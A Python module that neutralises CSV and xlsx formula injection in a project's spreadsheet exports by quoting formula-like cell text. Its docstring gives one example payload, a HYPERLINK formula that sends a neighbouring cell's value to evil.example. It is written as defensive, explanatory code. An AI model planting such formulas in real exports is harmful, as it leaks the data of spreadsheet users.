"""Spreadsheet exports that never carry a live formula (CSV/xlsx injection, issue #12.7).

A unit may call itself `=HYPERLINK("https://evil.example/?x="&B2,"…")`: written as is, that
name becomes a formula in the secretariat's spreadsheet, which can leak the neighbouring
cells or run commands. Every export of the project goes through this module:
- CSV has no cell types: `safe_cell()` puts an apostrophe before text that a spreadsheet would
  read as a formula (OWASP's advice); `csv_bytes()` does it for a whole DataFrame.
- xlsx has them: `xlsx_bytes()` writes such text as a text cell with Excel's quote prefix, so
  the value stays exactly what was registered and is not evaluated even after editing.
"""

import io

# What spreadsheets read as the start of a formula, including full-width forms that some
# spreadsheet programs fold to ASCII, and leading whitespace/control characters before them.
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
STRIPPED_BEFORE = " \t\r\n\u3000"


def is_formula_like(value) -> bool:
    if not isinstance(value, str) or not value:
        return False
    if value[0] in "\t\r\n":
        return True
    return value.lstrip(STRIPPED_BEFORE).startswith(FORMULA_STARTS)


def safe_cell(value):
    """The value to write into a CSV cell: formula-like text gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def safe_frame(frame):
    """A copy of a DataFrame with every cell and column name passed through `safe_cell`."""
    frame = frame.map(safe_cell)
    frame.columns = [safe_cell(c) for c in frame.columns]
    return frame


def csv_bytes(frame) -> bytes:
    """UTF-8 with a BOM (so that Excel opens Chinese text correctly), formulas defused."""
    return safe_frame(frame).to_csv(index=False).encode("utf-8-sig")


def defuse_workbook(book) -> None:
    """Turn every formula-like text cell of an openpyxl workbook into quoted text."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type in ("s", "f") and is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True


MONEY = "#,##0.00"  # amounts in yuan: 15,000.00, never 15000.0


def xlsx_bytes(sheets: dict, *, column_width: float | None = None, number_formats: dict | None = None) -> bytes:
    """{sheet name: DataFrame} as an xlsx file (openpyxl), with no formula in it.

    `number_formats` = {column name: Excel format} (e.g. `MONEY`) for the columns of that name in any sheet:
    the cells stay numbers the accountant can add up, shown the way money is written.
    """
    import pandas as pd

    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            frame.to_excel(writer, sheet_name=str(name)[:31], index=False)
            sheet = writer.sheets[str(name)[:31]]
            if column_width:
                for column in sheet.columns:
                    sheet.column_dimensions[column[0].column_letter].width = column_width
            for position, column in enumerate(frame.columns, start=1):
                fmt = (number_formats or {}).get(str(column))
                if fmt:
                    for (cell,) in sheet.iter_rows(min_row=2, min_col=position, max_col=position):
                        cell.number_format = fmt
        defuse_workbook(writer.book)
    return buffer.getvalue()
